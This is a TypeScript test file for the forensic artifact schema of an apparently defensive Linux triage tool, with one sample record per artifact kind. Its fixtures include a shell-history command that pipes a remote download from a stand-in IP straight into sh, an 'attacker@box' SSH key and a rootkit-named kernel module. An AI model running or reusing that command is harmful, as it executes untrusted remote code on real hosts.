import { readFileSync } from 'node:fs';
import { isTriageError } from '@triage/errors';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import {
  ARTIFACT_KINDS,
  type ArtifactRecord,
  artifactJsonSchema,
  assertRecord,
  isArtifactKind,
  validateRecord,
} from './index.js';

const PUBLISHED = new URL('../../../docs/schema/artifact-v1.schema.json', import.meta.url);
const T = '2026-11-23T12:00:00.000Z';

/** One valid record per kind, the smallest that satisfies the schema. */
const SAMPLES: Record<string, ArtifactRecord> = {
  host_info: {
    kind: 'host_info',
    source: '/etc/os-release',
    collected_at: T,
    hostname: 'web-1',
    os_id: 'ubuntu',
    os_name: 'Ubuntu 24.04.1 LTS',
    os_version: '24.04',
    kernel_release: null,
    machine_id: null,
    boot_time: null,
    timezone: 'Etc/UTC',
    live: false,
  },
  user_account: {
    kind: 'user_account',
    source: '/etc/passwd',
    collected_at: T,
    username: 'alice',
    uid: 1000,
    gid: 1000,
    gecos: 'Alice',
    home: '/home/alice',
    shell: '/bin/bash',
    password_status: 'set',
    last_change: '2026-01-02',
    min_days: 0,
    max_days: 99999,
    warn_days: 7,
    inactive_days: null,
    expires: null,
  },
  group: { kind: 'group', source: '/etc/group', collected_at: T, name: 'sudo', gid: 27, members: ['alice'] },
  login_event: {
    kind: 'login_event',
    source: '/var/log/wtmp',
    collected_at: T,
    event: 'login',
    time: T,
    user: 'alice',
    terminal: 'pts/0',
    remote_host: '203.0.113.9',
    remote_address: '203.0.113.9',
    pid: 4242,
    success: true,
    method: null,
    message: null,
  },
  startup_item: {
    kind: 'startup_item',
    source: '/etc/crontab',
    collected_at: T,
    mechanism: 'cron',
    name: '/etc/crontab:7',
    path: '/etc/crontab',
    user: 'root',
    command: '/usr/local/bin/backup',
    executable: '/usr/local/bin/backup',
    schedule: '0 3 * * *',
    enabled: null,
    line: 7,
    file_mtime: T,
  },
  process: {
    kind: 'process',
    source: '/proc/1',
    collected_at: T,
    pid: 1,
    ppid: 0,
    name: 'systemd',
    state: 'S',
    uid: 0,
    user: 'root',
    exe: '/usr/lib/systemd/systemd',
    exe_deleted: false,
    cmdline: ['/sbin/init'],
    cwd: '/',
    start_time: T,
  },
  network_connection: {
    kind: 'network_connection',
    source: '/proc/net/tcp6',
    collected_at: T,
    protocol: 'tcp',
    family: 'ipv6',
    local_address: '::',
    local_port: 22,
    remote_address: '::',
    remote_port: 0,
    state: 'LISTEN',
    uid: 0,
    inode: 12345,
    pid: 812,
    process_name: 'sshd',
  },
  ssh_authorized_key: {
    kind: 'ssh_authorized_key',
    source: '/root/.ssh/authorized_keys',
    collected_at: T,
    user: 'root',
    path: '/root/.ssh/authorized_keys',
    line: 1,
    key_type: 'ssh-ed25519',
    fingerprint: 'SHA256:FAKEFINGERPRINTxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
    comment: 'attacker@box',
    options: null,
    file_mtime: T,
  },
  ssh_known_host: {
    kind: 'ssh_known_host',
    source: '/home/alice/.ssh/known_hosts',
    collected_at: T,
    user: 'alice',
    path: '/home/alice/.ssh/known_hosts',
    line: 1,
    hosts: 'github.com',
    hashed: false,
    key_type: 'ssh-ed25519',
    fingerprint: 'SHA256:FAKE',
    marker: null,
  },
  shell_history_entry: {
    kind: 'shell_history_entry',
    source: '/root/.bash_history',
    collected_at: T,
    user: 'root',
    shell: 'bash',
    path: '/root/.bash_history',
    line: 3,
    command: 'curl -s http://198.51.100.7/x | sh',
    time: null,
  },
  installed_package: {
    kind: 'installed_package',
    source: '/var/lib/dpkg/status',
    collected_at: T,
    manager: 'dpkg',
    name: 'openssh-server',
    version: '1:9.6p1-3ubuntu13',
    architecture: 'amd64',
    status: 'install ok installed',
    install_time: null,
  },
  kernel_module: {
    kind: 'kernel_module',
    source: '/proc/modules',
    collected_at: T,
    name: 'diamorphine',
    size: 16384,
    refcount: 0,
    used_by: [],
    state: 'Live',
    taint: '(OE)',
  },
  file_metadata: {
    kind: 'file_metadata',
    source: '/usr/sbin/sshd',
    collected_at: T,
    path: '/usr/sbin/sshd',
    exists: true,
    size: 10,
    mode: '100755',
    uid: 0,
    gid: 0,
    owner: 'root',
    mtime: T,
    atime: T,
    ctime: T,
    btime: null,
    sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    referenced_by: ['startup_item:/lib/systemd/system/ssh.service'],
    error: null,
  },
};

describe('artifact schema', () => {
  it('has a sample for every kind and each sample is valid', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual([...ARTIFACT_KINDS].sort());
    for (const sample of Object.values(SAMPLES))
      expect(validateRecord(sample)).toEqual({ ok: true, record: sample });
  });

  it('the committed docs/schema file is what the code generates (run npm run schema to refresh)', () => {
    expect(JSON.parse(readFileSync(PUBLISHED, 'utf8'))).toEqual(artifactJsonSchema());
  });

  it('the published JSON Schema, on its own in Ajv, accepts and rejects as validateRecord does', () => {
    const ajv = new Ajv({ strict: true });
    const validate = ajv.compile(JSON.parse(readFileSync(PUBLISHED, 'utf8')) as object);
    for (const sample of Object.values(SAMPLES)) expect(validate(sample), sample.kind).toBe(true);
    expect(validate({ ...SAMPLES.group, extra: 1 })).toBe(false);
    expect(validate({ ...SAMPLES.group, kind: 'nope' })).toBe(false);
  });

  it.each([
    ['a missing field', { ...SAMPLES.group, gid: undefined }, '/gid', 'is required'],
    ['a wrong type', { ...SAMPLES.user_account, uid: '0' }, '/uid', 'must be integer'],
    [
      'an unknown field',
      { ...SAMPLES.group, password_hash: 'x' },
      '/password_hash',
      'is not a field of this kind',
    ],
    [
      'a local time',
      { ...SAMPLES.group, collected_at: '2026-11-23T12:00:00+01:00' },
      '/collected_at',
      'must match',
    ],
    ['an empty source', { ...SAMPLES.group, source: '' }, '/source', 'must NOT have fewer than 1 characters'],
    ['a bad port', { ...SAMPLES.network_connection, local_port: 70000 }, '/local_port', 'must be <= 65535'],
    ['a bad hash', { ...SAMPLES.file_metadata, sha256: 'ABC' }, '/sha256', 'must match'],
    ['an unknown kind', { ...SAMPLES.group, kind: 'registry_key' }, '/kind', 'unknown kind "registry_key"'],
    ['no kind', { source: '/x' }, '/kind', 'is required'],
  ])('rejects %s with the field path', (_name, value, path, message) => {
    const result = validateRecord(JSON.parse(JSON.stringify(value)));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.issues[0]?.path).toBe(path);
    expect(result.issues[0]?.message).toContain(message);
  });

  it('rejects non-objects', () => {
    for (const value of [null, 1, 'x', []]) expect(validateRecord(value).ok).toBe(false);
  });

  it('assertRecord throws DATA_INVALID naming the line and field', () => {
    let caught: unknown;
    try {
      assertRecord({ ...SAMPLES.user_account, uid: -1.5 }, { line: 12 });
    } catch (error) {
      caught = error;
    }
    expect(isTriageError(caught, 'DATA_INVALID')).toBe(true);
    expect((caught as Error).message).toBe(
      'line 12: user_account record field /uid must be integer; the collection does not match artifact schema v1',
    );
    expect((caught as { context: object }).context).toMatchObject({
      kind: 'user_account',
      path: '/uid',
      line: 12,
    });
  });

  it('isArtifactKind knows exactly the kinds', () => {
    for (const kind of ARTIFACT_KINDS) expect(isArtifactKind(kind)).toBe(true);
    expect(isArtifactKind('password_hash')).toBe(false);
  });

  it('no kind has a field that could hold a password hash', () => {
    const text = JSON.stringify(artifactJsonSchema());
    expect(text).not.toMatch(/"(password|hash|password_hash|shadow_hash)"\s*:/);
  });
});
